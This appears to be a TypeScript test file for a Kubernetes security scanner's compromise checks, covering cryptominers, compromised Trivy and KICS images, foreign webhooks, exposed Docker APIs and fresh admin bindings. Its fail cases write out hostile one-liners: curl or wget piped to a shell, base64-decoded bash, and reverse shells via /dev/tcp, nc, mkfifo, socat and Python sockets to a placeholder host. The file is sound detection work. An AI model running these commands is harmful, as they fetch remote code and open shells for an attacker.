import type { KubernetesObject } from '../../../main/snapshot/model.ts';
import { type Case, NOTHING, testFamily } from './cases.ts';
import { daemonSet, deployment, granted, namespace, object, service, staticPod } from './objects.ts';

const REFUSED: Case = { forbidden: ['/pods'] };
const CONTAINER = 'spec.template.spec.containers[0]';
const runs = (...args: readonly string[]): Case => ({ objects: [deployment({ args })] });
const named = (name: string, namespace: string, image: string): Case => ({
  objects: [deployment({ image }, {}, { name, namespace })],
});
const webhook = (clientConfig: object, kind = 'MutatingWebhookConfiguration') =>
  object('admissionregistration.k8s.io/v1', kind, 'inject', {
    webhooks: [{ name: 'a.example', clientConfig }],
  });
const to = (url: string): Case => ({ objects: [webhook({ url })] });

const BAD_KICS = 'sha256:2588a44890263a8185bd5d9fadb6bc9220b60245dbcbc4da35e1b62a6f8c230d';
const CRON = {
  spec: {
    jobTemplate: {
      spec: {
        template: {
          spec: { initContainers: [{ name: 'scan', image: 'aquasec/trivy:0.69.5' }], containers: [] },
        },
      },
    },
  },
};
const holds = (...images: readonly (readonly string[])[]): Case => ({
  objects: [object('v1', 'Node', 'node-1', { status: { images: images.map((names) => ({ names })) } })],
});

const STATIC = staticPod('etcd', []).metadata;
const RUNNER = { kind: 'ServiceAccount', namespace: 'ci', name: 'runner' };
/** A live cluster made on one day, with an administrator and his account made on another; null makes none. */
function world(made: string, bound: string | null, subject: object = { kind: 'User', name: 'anna' }): Case {
  const at = (creationTimestamp: string) => (one: KubernetesObject) => ({
    ...one,
    metadata: { ...one.metadata, creationTimestamp },
  });
  const admin = granted([{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }], subject);
  return {
    origin: 'live',
    objects: [
      namespace('kube-system'),
      object('rbac.authorization.k8s.io/v1', 'RoleBinding', 'none', {}, { namespace: 'shop' }),
      object('rbac.authorization.k8s.io/v1', 'Role', 'none', {}, { namespace: 'shop' }),
      object('rbac.authorization.k8s.io/v1', 'ClusterRole', 'none'),
      object('rbac.authorization.k8s.io/v1', 'ClusterRoleBinding', 'none'),
      object('v1', 'ServiceAccount', 'default', {}, { namespace: 'shop' }),
    ]
      .map(at(made))
      .concat(
        bound === null
          ? []
          : [...admin, object('v1', 'ServiceAccount', 'runner', {}, { namespace: 'ci' })].map(at(bound)),
      ),
  };
}

testFamily('compromise', {
  'look-alike-system-pod': {
    fail: {
      ...named('kube-proxy-x1', 'default', 'docker.io/someone/proxy:2'),
      path: `${CONTAINER}.image`,
      message: /^Seen: .* This may be legitimate; ask who created it\.$/,
    },
    pass: [
      named('kube-proxy', 'kube-system', 'registry.k8s.io/kube-proxy:v1.35.0'),
      { objects: [daemonSet('calico-node', 'kube-system', { image: 'docker.io/calico/node:v3.30.1' })] },
      named('web', 'default', 'docker.io/library/nginx:1.29'),
      named('etcd', 'data', 'registry.example/etcd:3.6'),
    ],
    unknown: REFUSED,
    'not-applicable': NOTHING,
  },
  miner: {
    fail: [
      { objects: [deployment({ image: 'docker.io/someone/xmrig:6' })], path: `${CONTAINER}.image` },
      { ...runs('-o', 'stratum+tcp://pool.example:3333'), path: `${CONTAINER}.args[1]` },
      { ...runs('-o', 'xmr.hashvault.pro:443'), message: /names a mining pool/ },
      runs('--donate-level', '1'),
      runs('--algo=rx/0', '--threads=8'),
      { objects: [deployment({ image: 'docker.io/someone/cpuminer-opt:1' })] },
    ],
    pass: [
      runs('--mine=true'),
      runs('--pool=nanopool.internal'),
      { objects: [deployment({ image: 'registry.example/determiner:1' })] },
      { objects: [deployment({ image: 'registry.example/data-mining:1' })] },
    ],
    unknown: REFUSED,
    'not-applicable': NOTHING,
  },
  'known-bad-release': {
    fail: [
      {
        objects: [deployment({ image: 'docker.io/aquasec/trivy:0.69.4' })],
        path: `${CONTAINER}.image`,
        value: 'docker.io/aquasec/trivy:0.69.4',
        severity: 'critical',
        message:
          /published by attackers \(CVE-2026-33634\)\. Treat the cluster as compromised until it has been examined/,
      },
      { objects: [deployment({ image: 'ghcr.io/aquasecurity/trivy:0.69.4-amd64' })] },
      { objects: [deployment({ image: 'mirror.gcr.io/aquasec/trivy:0.69.6' })] },
      { objects: [deployment({ image: 'checkmarx/kics:v2.1.21' })] },
      { objects: [deployment({ image: `registry.example/kics@${BAD_KICS}` })] },
      { objects: [object('batch/v1', 'CronJob', 'scan', CRON, { namespace: 'shop' })] },
      // The tag is clean again; the pod runs what it was pulled as.
      {
        origin: 'live',
        objects: [
          object(
            'v1',
            'Pod',
            'scan',
            {
              spec: { containers: [{ name: 'scan', image: 'checkmarx/kics:v2.1.20' }] },
              status: {
                containerStatuses: [{ name: 'scan', imageID: `docker.io/checkmarx/kics@${BAD_KICS}` }],
              },
            },
            { namespace: 'shop' },
          ),
        ],
        path: 'status.containerStatuses[0].imageID',
      },
    ],
    pass: [
      { objects: [deployment({ image: 'aquasec/trivy:0.69.3' })], message: /this does not prove absence/ },
      { objects: [deployment({ image: 'aquasec/trivy:0.70.0' })] },
      { objects: [deployment({ image: `checkmarx/kics:v2.1.20@sha256:${'1'.repeat(64)}` })] },
      { objects: [deployment({ image: 'aquasec/trivy-operator:0.69.4' })] },
      {
        objects: [
          object(
            'v1',
            'Pod',
            'scan',
            { spec: { containers: [{ name: 'scan', image: 'aquasec/trivy:latest' }] } },
            { namespace: 'shop', creationTimestamp: '2026-06-01T00:00:00Z' },
          ),
        ],
      },
    ],
    unknown: [
      REFUSED,
      {
        objects: [deployment({ image: 'aquasec/trivy' })],
        message: /between 19 Mar 2026 and 23 Mar 2026 .*Ask whether it ran/,
      },
      { objects: [deployment({ image: 'checkmarx/kics:alpine' })] },
    ],
    'not-applicable': NOTHING,
  },
  'bad-image-on-node': {
    fail: {
      ...holds(['docker.io/library/nginx:1.29.1'], ['docker.io/aquasec/trivy:0.69.5']),
      path: 'status.images[1].names[0]',
      severity: 'critical',
    },
    pass: { ...holds(['docker.io/aquasec/trivy:0.69.3']), message: /No image that the node lists/ },
    unknown: [{ forbidden: ['/nodes'] }, holds()],
    'not-applicable': { never: 'Every cluster has nodes, and where none is seen it is unknown.' },
  },
  'shell-download': {
    fail: [
      { ...runs('curl -s http://192.0.2.7/x | sh'), path: `${CONTAINER}.args[0]` },
      runs('wget -qO- http://192.0.2.7/x | sudo bash'),
      runs('bash <(curl -s http://192.0.2.7/x)'),
      runs('sh -c "$(curl -fsSL http://192.0.2.7/x)"'),
      runs('curl -o /tmp/a http://192.0.2.7/a && chmod +x /tmp/a && /tmp/a'),
      { ...runs('echo aGk= | base64 -d | bash'), message: /decodes hidden text/ },
      runs('curl http://192.0.2.7/x.py | python3 -'),
    ],
    pass: [
      runs('curl -s http://web/healthz'),
      runs('curl -s http://web/ids | jq .'),
      runs('curl -s http://web/ready || sh -c exit'),
      runs('cat /etc/motd | base64 -d > /tmp/motd'),
    ],
    unknown: REFUSED,
    'not-applicable': NOTHING,
  },
  'reverse-shell': {
    fail: [
      runs('bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'),
      runs('nc 192.0.2.7 4444 -e /bin/sh'),
      runs('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f'),
      runs('socat tcp:192.0.2.7:4444 exec:bash,pty'),
      runs('import socket,os; s=socket.socket(); s.connect(("192.0.2.7",4)); os.dup2(s.fileno(),0)'),
    ],
    pass: [
      runs('bash -c "exec server"'),
      runs('nc -z db 5432'),
      runs('until nc -z db 5432; do sleep 1; done; exec server'),
      runs('socat TCP-LISTEN:80 TCP:web:8080'),
    ],
    unknown: REFUSED,
    'not-applicable': NOTHING,
  },
  'webhook-to-foreign-url': {
    fail: {
      ...to('https://collect.example/mutate'),
      path: 'webhooks[0].clientConfig.url',
      message: /sends objects to collect\.example\./,
    },
    pass: [
      to('https://127.0.0.1:23443/mutate'),
      to('https://hook.shop.svc/mutate'),
      {
        objects: [webhook({ service: { namespace: 'shop', name: 'web' } }, 'ValidatingWebhookConfiguration')],
      },
    ],
    unknown: { forbidden: ['admissionregistration.k8s.io/mutatingwebhookconfigurations'] },
    'not-applicable': NOTHING,
  },
  'public-image-in-system-namespace': {
    fail: {
      ...named('backup', 'kube-system', 'docker.io/someone/backup:1'),
      path: `${CONTAINER}.image`,
      value: 'docker.io/someone/backup:1',
      message: /^Seen: .* ask who created it\.$/,
    },
    pass: [
      named('backup', 'kube-system', 'registry.example/backup:1'),
      { objects: [daemonSet('calico-node', 'kube-system', { image: 'docker.io/calico/node:v3.30.1' })] },
    ],
    unknown: REFUSED,
    'not-applicable': [NOTHING, named('web', 'shop', 'docker.io/library/nginx:1')],
  },
  'unexpected-static-pod': {
    fail: [
      {
        objects: [staticPod('helper', ['sleep', '1d'])],
        path: 'spec.containers[0].image',
        message: /^Seen: static pod kube-system\/helper-node-1/,
      },
      { objects: [{ ...staticPod('etcd', ['etcd']), metadata: { ...STATIC, namespace: 'shop' } }] },
    ],
    pass: { objects: [staticPod('kube-apiserver', ['kube-apiserver'])] },
    unknown: REFUSED,
    'not-applicable': [NOTHING, { objects: [deployment()] }],
  },
  'docker-api': {
    fail: [
      { ...runs('dockerd', '--host=tcp://0.0.0.0:2375'), path: `${CONTAINER}.args[1]` },
      { objects: [deployment({ ports: [{ containerPort: 2375 }] })], path: `${CONTAINER}.ports[0]` },
      {
        objects: [service({ ports: [{ port: 80, targetPort: 2375 }] })],
        path: 'spec.ports[0]',
        value: '2375',
      },
    ],
    pass: [
      runs('dockerd', '--host=tcp://127.0.0.1:2375'),
      runs('dockerd', '--host=tcp://0.0.0.0:2376', '--tlsverify'),
      runs('server', '--listen=tcp://0.0.0.0:8080'),
    ],
    unknown: [REFUSED, { forbidden: ['/services'] }],
    'not-applicable': NOTHING,
  },
  'fresh-cluster-admin-binding': {
    fail: {
      ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z'),
      path: 'metadata.creationTimestamp',
      value: '2026-04-28T09:00:00Z',
      message:
        /made User anna a cluster administrator 2 days before the collection, in a cluster of 851 days/,
    },
    pass: [world('2024-01-01T00:00:00Z', '2025-04-28T09:00:00Z'), { ...world('2024-01-01T00:00:00Z', null) }],
    unknown: [
      { ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z'), origin: 'manifests' },
      {
        ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z'),
        forbidden: ['rbac.authorization.k8s.io/clusterroles'],
      },
      { ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z'), forbidden: ['/namespaces'] },
    ],
    'not-applicable': world('2026-04-20T00:00:00Z', '2026-04-28T09:00:00Z'),
  },
  'fresh-powerful-account': {
    fail: {
      ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z', RUNNER),
      path: 'metadata.creationTimestamp',
      message: /account ci\/runner, which can take over the cluster/,
    },
    pass: [
      world('2024-01-01T00:00:00Z', '2025-04-28T09:00:00Z', RUNNER),
      world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z'),
    ],
    unknown: [
      { ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z', RUNNER), forbidden: ['/serviceaccounts'] },
      { ...world('2024-01-01T00:00:00Z', '2026-04-28T09:00:00Z', RUNNER), origin: 'manifests' },
    ],
    'not-applicable': world('2026-04-20T00:00:00Z', '2026-04-28T09:00:00Z', RUNNER),
  },
});
